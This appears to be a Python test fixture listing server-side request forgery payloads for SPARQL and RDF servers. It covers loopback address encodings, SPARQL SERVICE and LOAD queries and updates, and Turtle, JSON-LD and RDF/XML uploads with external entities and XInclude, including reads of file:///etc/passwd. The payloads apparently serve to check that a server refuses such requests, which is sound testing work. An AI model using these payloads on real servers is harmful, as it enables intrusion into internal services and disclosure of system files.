"""Every way that we know to have a server ask another address, by query, update and upload.

P stands for the port that a listener has on 127.0.0.1 and ::1, E for an address with it.
"""

import re

IPV4 = [
    "http://127.0.0.1:P/",
    "http://localhost:P/",
    "http://LOCALHOST:P/",
    "http://127.1:P/",
    "http://2130706433:P/",
    "http://0x7f000001:P/",
    "http://0x7f.0.0.1:P/",
    "http://0177.0.0.1:P/",
    "http://017700000001:P/",
    "http://0:P/",
    "http://0.0.0.0:P/",
    "http://user:password@127.0.0.1:P/",
    "HTTP://127.0.0.1:P/",
]
IPV6 = [
    "http://[::1]:P/",
    "http://[::]:P/",
    "http://[::ffff:127.0.0.1]:P/",
    "http://[0:0:0:0:0:ffff:7f00:1]:P/",
]
ADDRESSES = IPV4 + IPV6
QUERIES = [
    "SELECT * { SERVICE <E> { ?s ?p ?o } }",
    "SELECT * { SERVICE SILENT <E> { ?s ?p ?o } }",
    "SELECT * { SERVICE <E> { ?s ?p ?o SERVICE <E> { ?a ?b ?c } } }",
    "SELECT * { { SELECT ?s { SERVICE <E> { ?s ?p ?o } } } }",
    "SELECT * { ?s a ?t OPTIONAL { SERVICE <E> { ?s ?p ?o } } }",
    "SELECT * { ?s a ?t FILTER NOT EXISTS { SERVICE <E> { ?s ?p ?o } } }",
    "SELECT * { ?s a ?t MINUS { SERVICE <E> { ?s ?p ?o } } }",
    "SELECT * { { ?s a ?t } UNION { SERVICE <E> { ?s ?p ?o } } }",
    "SELECT * { GRAPH ?g { SERVICE <E> { ?s ?p ?o } } }",
    "SELECT * { VALUES ?e { <E> } SERVICE ?e { ?s ?p ?o } }",
    "SELECT * { BIND(<E> AS ?e) SERVICE SILENT ?e { ?s ?p ?o } }",
    "SELECT * { BIND(IRI(CONCAT('', 'E')) AS ?e) SERVICE ?e { ?s ?p ?o } }",
    "PREFIX e: <E> SELECT * { SERVICE e: { ?s ?p ?o } }",
    "PREFIX : <E> SELECT * { ?s ?p 1SERVICE:x{ ?a ?b ?c } }",
    "BASE <E> SELECT * { SERVICE <x> { ?s ?p ?o } }",
    "SELECT * { FILTER(1<'x>') SERVICE <E> { ?s ?p ?o }#'\n}",
    "ASK { SERVICE <E> { ?s ?p ?o } }",
    "CONSTRUCT WHERE { ?s ?p ?o } # nothing\nVALUES ?s { <E> }",
    "CONSTRUCT { ?s ?p ?o } WHERE { SERVICE <E> { ?s ?p ?o } }",
    "DESCRIBE ?s { SERVICE <E> { ?s ?p ?o } }",
    "DESCRIBE <E>",
    "SELECT * FROM <E> { ?s ?p ?o }",
    "SELECT * FROM NAMED <E> { GRAPH ?g { ?s ?p ?o } }",
    "SELECT * FROM <E> FROM NAMED <E> { GRAPH <E> { ?s ?p ?o } }",
    "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
    "SELECT * { SERVICE <file:///etc/passwd> { ?s ?p ?o } }",
]
UPDATES = [
    "LOAD <E>",
    "LOAD SILENT <E>",
    "LOAD <E> INTO GRAPH <http://g>",
    "LOADSILENT<E>",
    "PREFIX : <E> LOAD:x",
    "PREFIX : <E> LOADSILENT:x",
    "BASE <E> LOAD <x>",
    "LOAD <file:///etc/passwd>",
    "CLEAR ALL ; LOAD SILENT <E> ; INSERT DATA { <http://s> <http://p> 1 }",
    "INSERT {} WHERE { FILTER(1<'x>') } ; LOAD SILENT <E> #'",
    "INSERT { ?s ?p ?o } WHERE { SERVICE <E> { ?s ?p ?o } }",
    "INSERT { ?s ?p ?o } WHERE { SERVICE SILENT <E> { ?s ?p ?o } }",
    "DELETE { ?s ?p ?o } WHERE { ?s ?p ?o FILTER EXISTS { SERVICE SILENT <E> { ?s ?p ?o } } }",
    "DELETE WHERE { ?s ?p ?o SERVICE SILENT <E> { ?s ?p ?o } }",
    "INSERT { ?s ?p ?o } WHERE { { SELECT * { BIND(<E> AS ?e) SERVICE ?e { ?s ?p ?o } } } }",
    "INSERT { ?s ?p ?o } USING <E> USING NAMED <E> WHERE { GRAPH <E> { ?s ?p ?o } }",
    "WITH <E> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
    "COPY SILENT <E> TO <http://g>",
    "ADD SILENT <E> TO DEFAULT",
    "MOVE SILENT <E> TO <http://g>",
    "CREATE SILENT GRAPH <E>",
]
TURTLE, JSONLD, RDFXML = "text/turtle", "application/ld+json", "application/rdf+xml"
RDF = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="http://e/"'
UPLOADS = [
    (TURTLE, "@base <E> . <x> <p> <E> ."),
    (TURTLE, "BASE <E>\nPREFIX e: <E>\n<> a <http://www.w3.org/2002/07/owl#Ontology> ; "
             "<http://www.w3.org/2002/07/owl#imports> <E> , e:x ."),
    ("application/trig", "GRAPH <E> { <E> <E> <E> }"),
    ("application/n-quads", "<E> <E> <E> <E> ."),
    (JSONLD, '{"@context": "E", "@id": "E", "name": "x"}'),
    (JSONLD, '{"@context": ["E", {"name": "http://e/name"}], "name": "x"}'),
    (JSONLD, '{"@context": {"@import": "E", "name": "http://e/name"}, "name": "x"}'),
    (JSONLD, '{"@context": {"@version": 1.1, "p": {"@id": "http://e/p", "@context": "E"}}, '
             '"p": {"name": "x"}}'),
    (JSONLD, '{"@context": {"@base": "E", "@vocab": "E"}, "@type": "T", "name": '
             '{"@context": "E", "x": "y"}}'),
    (JSONLD, '{"@context": {"T": {"@id": "http://e/T", "@context": ["E"]}}, "@type": "T"}'),
    (RDFXML, '<!DOCTYPE rdf:RDF SYSTEM "E"><rdf:RDF RDF/>'),
    (RDFXML, '<!DOCTYPE rdf:RDF PUBLIC "x" "E"><rdf:RDF RDF/>'),
    (RDFXML, '<!DOCTYPE rdf:RDF [<!ENTITY x SYSTEM "E">]><rdf:RDF RDF><rdf:Description '
             'rdf:about="http://s"><e:p>&x;</e:p></rdf:Description></rdf:RDF>'),
    (RDFXML, '<!DOCTYPE rdf:RDF [<!ENTITY x SYSTEM "file:///etc/passwd">]><rdf:RDF RDF>'
             '<rdf:Description rdf:about="http://s"><e:p>&x;</e:p></rdf:Description></rdf:RDF>'),
    (RDFXML, '<!DOCTYPE rdf:RDF [<!ENTITY % x SYSTEM "E"> %x;]><rdf:RDF RDF/>'),
    (RDFXML, '<?xml-stylesheet href="E"?><rdf:RDF RDF xml:base="E" '
             'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="E E">'
             '<rdf:Description rdf:about="x" rdf:resource="E"/></rdf:RDF>'),
    (RDFXML, '<rdf:RDF RDF xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="E"/>'
             '<rdf:Description rdf:about="E"><e:p rdf:parseType="Literal"><xi:include href="E" '
             'parse="text"/></e:p></rdf:Description></rdf:RDF>'),
]  # fmt: skip


def placed(text: str, address: str) -> str:
    """Return a query or an update with an address in it."""
    return text.replace("E>", f"{address}>").replace("'E'", f"'{address}'")


def upload(content: str, address: str) -> bytes:
    """Return an upload with an address in it."""
    content = content.replace("rdf:RDF RDF", f"rdf:RDF {RDF}")
    return re.sub(r"\bE\b", address, content).encode()
